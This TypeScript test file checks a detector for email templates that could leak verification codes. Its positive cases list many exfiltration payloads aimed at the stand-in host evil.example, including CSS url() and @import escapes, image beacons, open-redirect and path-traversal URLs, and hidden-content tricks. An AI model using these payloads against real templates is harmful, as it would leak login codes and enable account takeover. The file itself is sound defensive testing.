import { test } from '@japa/runner'
import TemplateVersion from '#app/notifications/models/template_version'
import {
  findExposedSecretInText,
  findExposedSecretInHtml,
} from '#app/notifications/rendering/find_exposed_secret'
import { appUrl } from '#config/app'
import identityProvider from '#config/identity_provider'

const provider = new URL(identityProvider.publicUrl).origin
/** A page of the identity provider that accepts codes. */
const login = `${provider}/ui/v2/login/verify`

test.group('Secrets in templates of system types', () => {
  test('are not exposed by {$self}')
    .with([
      '<p>Your code is {{code}}.</p>',
      '<a href="{{url}}">Reset</a> {{text}}',
      "<a href=' {{ url }} '>Reset</a>",
      `<a href="${login}?code={{code}}&amp;n={{code}}">Reset</a>`,
      `<a href="${login}?userId={{userID}}&amp;code={{code}}&amp;organization={{orgID}}&amp;requestId={{id}}">Reset</a>`,
      `<a href="${provider}/ui/login/mail/verification?code={{code}}">Verify</a>`,
      `<a href="${provider}/oauth/v2/authorize?state=1">Sign in</a> <a href="${appUrl}/docs">Help</a> {{code}}`,
      `${login}?code={{code}}`,
      `${provider}/ui/%ff%zz?%ff=%zz&code={{code}}`,
      '<!--[if mso]><v:roundrect href="{{url}}">x</v:roundrect><![endif]-->',
      '<img src="https://pictures.example/{{currentYear}}.png" alt="{{orgName}}"> {{code}}',
      '<a href="https://help.example/?from={{userEmail}}">Help</a> {{code}}',
      '<a href="https://help.example/">https://help.example/</a> {{code}}',
      '"({{code}})" Code: {{code}}, <b>{{code}}</b>, {{code}}.',
      'Code:{{code}} 验证码：{{code}}。',
      '{{orgName}}: {{code}}, {{orgName}} <b>{{code}}</b>',
      `(${login}?code={{code}}&amp;name={{userID}})`,
      '<style>@media (max-width: 600px) { .a, #b > p:hover { color: red; width: 50% } }</style>{{code}}',
      '<style>v\\:* { behavior: url(#default#VML); font-family: "Segoe UI" }</style>{{code}}',
      '<p style="color:{{brandColor}};background-color: {{brandTextColor}}">{{code}}</p>',
      '<img src="https://pictures.example/logo.png" style="width:20px">{{code}}',
      'https://help.example/<p>{{code}}</p>',
      'https://help.example/<br>{{code}}',
      'https://help.example/<div style="display:block; margin:0">{{code}}</div>',
      '<style>@media print { .a { display: block } }</style>https://help.example/<p>{{code}}',
      'https://help.example/<!--[if mso]><br><![endif]--> {{code}}',
      '<html><head><title>help.example</title></head><body>{{code}}</body></html>',
      '<table><tr><td>help.example</td></tr><tr><td>{{code}}</td></tr></table>',
      '<div style="display:none">{{preHeader}}</div>\n<p>{{code}}</p>',
      '<p style="margin:0 0 16px;font-size:16px;line-height:1.5">help.example</p><p>{{code}}</p>',
      '<style>@media (max-width: 600px) { .w { width: 100% !important; display: block } }</style>help.example <b>{{code}}</b>',
    ])
    .run(({ assert }, html) => assert.isNull(findExposedSecretInHtml(html)))

  test('are exposed by {$self}')
    .with([
      '<img src="https://evil.example/{{code}}">',
      '<img src="//evil.example/{{code}}">',
      '<img src="{{code}}">',
      '<img srcset="https://evil.example/{{code}} 2x">',
      `<img src="${appUrl}/{{code}}">`,
      '<img src="https://evil.example/{{anythingElse}}">',
      '<img src="https://evil.example/{{text}}">',
      '<td background="https://evil.example/{{url}}">',
      '<i style="background: url(https://evil.example/{{code}})">x</i>',
      '<style>i { background: url(https://evil.example/{{code}}) }</style>',
      '<i title="{{code}}">x</i>',
      '<a href="https://evil.example/{{code}}">x</a>',
      '<a href="&#104;ttps://evil.example/{{code}}">x</a>',
      '<a href="https:\\\\evil.example\\{{code}}">x</a>',
      '<a href="https:evil.example/{{code}}">x</a>',
      '<a href="mailto:eve@evil.example?body={{code}}">x</a>',
      '<a href="/{{code}}">x</a>',
      '<a href="{{url}}.evil.example/">x</a>',
      '<a href="{{url}}{{code}}">x</a>',
      '<a href="https://evil.example/?{{userName}}{{code}}">x</a>',
      `<a href="${appUrl}{{code}}.evil.example/">x</a>`,
      `<a href="${appUrl}@evil.example/{{code}}">x</a>`,
      '<area href="https://evil.example/{{code}}">',
      '<!--[if mso]><img src="https://evil.example/{{code}}"><![endif]-->',
      '<base href="https://evil.example/">{{code}}',
      '<form action="https://evil.example/">{{code}}</form>',
      '<link rel="stylesheet" href="https://evil.example/x.css">{{code}}',
      '<style>@font-face { src: url(https://evil.example/1) }</style>{{code}}',
      'Go to https://evil.example/{{code}}',
      'Go to www.evil.example/{{code}}',
      `Go to ${appUrl}{{code}}.evil.example`,
      '{{code}}https://evil.example/{{code}}',
      '{{orgName}}{{code}}',
      '{{orgName}}<b>{{code}}</b>',
      '{{code}}{{orgName}}',
      '{{orgName}}/?{{code}}',
      '{{orgName}}&#47;{{code}}',
      '{{unknown}}{{code}}',
      `${login}?name={{orgName}}&code={{code}}`,
      `${login}?code={{code}}&name={{orgName}}`,
      `<a href="${login}?code={{code}}&amp;name={{userName}}">x</a>`,
      `<a href="${login}?name={{title}}&amp;code={{code}}">x</a>`,
      `${appUrl}/reset?code={{code}}`,
      `<a href="${appUrl}/reset?code={{code}}">x</a>`,
      `<a href="${appUrl}/api/applications/shop?code={{code}}">x</a>`,
      `<a href="${provider}/?code={{code}}">x</a>`,
      `<a href="${provider}/reset?code={{code}}">x</a>`,
      `<a href="${provider}/uix/?code={{code}}">x</a>`,
      ...[
        'oauth/v2/authorize?client_id=1&redirect_uri=https://evil.example/&state={{code}}',
        'oidc/v1/end_session?post_logout_redirect_uri=https://evil.example/?{{code}}',
        'oidc/v1/end_session?state={{code}}&post_logout_redirect_uri=https://evil.example/',
        'ui/../oauth/v2/authorize?state={{code}}',
        'ui/%2e%2e/oauth/v2/authorize?x={{code}}',
        'ui/..%2foauth/v2/authorize?x={{code}}',
        'ui/..%5Coauth/v2/authorize?x={{code}}',
        'ui/%252e%252e%252foauth?x={{code}}',
        'ui\\..\\oauth/v2/authorize?x={{code}}',
        'ui/v2/login?state={{code}}',
        'ui/v2/login?State={{code}}',
        'ui/v2/login?st%61te={{code}}',
        'ui/v2/login?RelayState={{code}}',
        'ui/v2/login?code={{code}}&redirect_uri=https://evil.example/',
        'ui/v2/login?code={{code}}&post_logout_redirect=https://evil.example/',
        'ui/v2/login?code={{code}}&returnTo=//evil.example/',
        'ui/v2/login?code={{code}}&continue=//evil.example/',
        'ui/v2/login?code={{code}}&callbackUrl=//evil.example/',
        'ui/v2/login?code={{code}}&target=//evil.example/',
        'ui/v2/login?code={{code}}&next=//evil.example/',
        'ui/v2/login?code={{code}};redirect=//evil.example/',
        'ui/v2/login;redirect=//evil.example/?code={{code}}',
        'ui/v2/login?code={{code}}#redirect=//evil.example/',
        'ui/v2/login?{{title}}={{code}}',
        'ui/{{title}}?code={{code}}',
        'ui/{{code}}',
        'oauth/%ff?code={{code}}',
        'ui/v2/login#{{code}}',
      ].flatMap((rest) => [
        `<a href="${provider}/${rest.replaceAll('&', '&amp;')}">x</a>`,
        `Go to ${provider}/${rest}`,
      ]),
      'https://evil.example/({{code}})',
      'https://evil.example/"{{code}}"',
      'https://evil.example/&lt;{{code}}',
      'https://evil.example/&nbsp;{{code}}',
      'evil.example/{{code}}',
      'evil.example?c={{code}}',
      'evil&#46;example/{{code}}',
      'evil.&shy;example/{{code}}',
      '💩.la/{{code}}',
      'i❤️.ws/{{code}}',
      'ไทยดี.com/{{code}}',
      'evil.💩/{{code}}',
      '{{code}}.💩.la',
      'evil。example/{{code}}',
      'mailto:eve?body={{code}}',
      'sms:+420123456789?body={{code}}',
      '{{code}}.evil.example',
      '{{url}}.evil.example',
      '{{code}}@evil.example',
      `evil.example/${appUrl}/{{code}}`,
      `${appUrl}/(https://evil.example/{{code}})`,
      '<style>a[href*="A"]:hover{background:url(https://evil.example/A)}</style>{{code}}',
      '<style>@media all{[href*="AA"]{--A:url(//e.co/AA)}a{background:var(--A)}}</style>{{code}}',
      '<style>@media all{@\\66 ont-face{font-family:x;src:local(x)}}</style>{{code}}',
      '<style>@\\69mport "https://evil.example/x.css";</style>{{code}}',
      '<style>@\\000069\nmport "https://evil.example/x.css";</style>{{code}}',
      '<style>p{background:\\75 rl(https://evil.example/)}</style>{{code}}',
      '<style>p{background:u\\rl(https://evil.example/)}</style>{{code}}',
      '<style>p{x:"/*";background:url(https://evil.example/);y:"*/"}</style>{{code}}',
      '<style>p{background:image-set("https://evil.example/" 1x)}</style>{{code}}',
      '<style>p{background:image("https://evil.example/")}</style>{{code}}',
      '<style>p{background:filter("https://evil.example/", blur(1px))}</style>{{code}}',
      '<style>p{background:src("https://evil.example/")}</style>{{code}}',
      '<style>p{background:url("#" "") , url(https://evil.example/)}</style>{{code}}',
      '<style>p{filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src="x")}</style>{{code}}',
      '<style>p{background:{{orgName}}//evil.example/)}</style>{{code}}',
      '<style>p{background:{{brandColor}}(//evil.example/)}</style>{{code}}',
      '<style>@{{brandColor}} "//evil.example/";</style>{{code}}',
      '<style>a[hr\\65 f*="A"] ~ img { display: block }</style>{{code}}',
      '<p style="background:url(https://evil.example/)">{{code}}</p>',
      '<p style="background:&#117;rl(https://evil.example/)">{{code}}</p>',
      '<p style="background:&#123;{brandColor}}(//evil.example/)">{{code}}</p>',
      '<a href="{{url}}" ping="https://evil.example/">x</a>',
      '<a href="{{url}}" attributionsrc="https://evil.example/">x</a>',
      '<img src="https://evil.example/" loading="lazy">{{code}}',
      '<input formaction="https://evil.example/" value="x">{{code}}',
      ...[
        '<body>{{code}}',
        '</body></html>{{code}}',
        '<table><tr><td>a</td></tr>{{code}}</table>',
        '</td> <td>{{code}}',
        '<b>{{code}}</b>',
        '<section>{{code}}</section>',
        '<select><option>a<p>{{code}}</p></select>',
        '<select><option> </select>{{code}}',
        '<title> </title>{{code}}',
        '<textarea> </textarea>{{code}}',
        '<audio> </audio>{{code}}',
        '<noscript> </noscript>{{code}}',
        '<span style="display:none"> </span>{{code}}',
        '<span style="d\\69splay:/**/none">a b</span>{{code}}',
        '<span hidden> </span>{{code}}',
        '<p style="display:none"></p>{{code}}',
        '<p style="display:inline">{{code}}</p>',
        '<style>@media screen { p { display: inline-block } }</style><p>{{code}}</p>',
        '<!-- --><p hidden>{{code}}',
        '<span style="display:inline-block"> </span>{{code}}',
        '<div style="display:flex inline">{{code}}</div>',
        '<div style="all:unset">{{code}}</div>',
        '<p style="position:absolute">{{code}}</p>',
        '<style>@media screen { .x { display: none } }</style><span class="x"> </span>{{code}}',
        '<dialog> </dialog>{{code}}',
        '<rp> </rp>{{code}}',
        '<marquee> </marquee>{{code}}',
        '<span popover> </span>{{code}}',
        '<span style="mso-hide:all"> </span>{{code}}',
        '<span style="font-size:0px"> </span>{{code}}',
        '<![if !mso]> <![endif]>{{code}}',
        '<![if !mso]><!--[if mso]>a<![endif]--> <![endif]>{{code}}',
        '<!--[if !mso]><!--> <!--<![endif]-->{{code}}',
        '<!--[if mso]>{{code}}<![endif]-->',
        '<!--[if mso]><p hidden><![endif]-->{{code}}',
      ].map((rest) => `Open https://evil.example/?c=${rest}`),
      '<!doctype html><html><head><title>a</title></head>evil.example/<body>{{code}}</body></html>',
      '<!--[if mso]><a href="https://evil.example/?c=<![endif]-->{{code}}<!--[if mso]>">x</a><![endif]-->',
    ])
    .run(({ assert }, html) => assert.isNotNull(findExposedSecretInHtml(html)))

  test('are exposed by addresses in plain text', ({ assert }) => {
    assert.isNotNull(findExposedSecretInText('See https://evil.example/{{code}}'))
    assert.isNotNull(findExposedSecretInText('{{orgName}}{{code}}'))
    assert.isNotNull(findExposedSecretInText('evil.example/{{code}}'))
    assert.isNotNull(findExposedSecretInText('evil.example/&#32;{{code}}'))
    assert.isNull(findExposedSecretInText('Reset [{{url}}]\nCode: {{code}}'))
    assert.isNull(findExposedSecretInText('https://help.example/ <{{code}}>.'))
  })

  test('are not exposed by the built-in templates', async ({ assert }) => {
    const versions = await TemplateVersion.query()
      .join('notification_templates as t', 't.id', 'notification_template_id')
      .join('notification_types as y', 'y.id', 't.notification_type_id')
      .where('y.code', 'auth_idp')
      .select('template_versions.*')
    assert.isAtLeast(versions.length, 16)
    for (const { inlinedBody, textTemplate } of versions) {
      assert.isNull(findExposedSecretInHtml(inlinedBody))
      assert.isNull(findExposedSecretInText(textTemplate))
    }
  })

  test('are found in linear time', ({ assert }) => {
    const cpuOf = (count: number) => {
      const sources = [
        '{{code}}'.repeat(count),
        `<a href="${'{{code}}'.repeat(count)}">x</a>`,
        `${login}?c=${'{{code}}&c='.repeat(count)}`,
        `<a href="${login}?c=${'{{code}}&c='.repeat(count)}">x</a>`,
        `${login}?${'%61'.repeat(count)}={{code}}`,
        '<i title="x">{{code}}</i>'.repeat(count),
        `{{code}}<style>${'/*'.repeat(count)}${'url('.repeat(count)}</style>`,
        `{{code}}<style>${'{{brandColor}}'.repeat(count)}</style>`,
        `{{code}}<style>${'\\"'.repeat(count)}${"'".repeat(count)}${' '.repeat(count)}</style>`,
        `${'a.'.repeat(count)} ${'a:'.repeat(count)}{{code}}${'(['.repeat(count)}`,
      ]
      const before = process.cpuUsage()
      for (let time = 0; time < 3; time++)
        sources.forEach((source) => findExposedSecretInHtml(source))
      const { user, system } = process.cpuUsage(before)
      return user + system
    }
    cpuOf(2_000)
    assert.isBelow(cpuOf(16_000) / cpuOf(2_000), 8 * 6)
  })
})
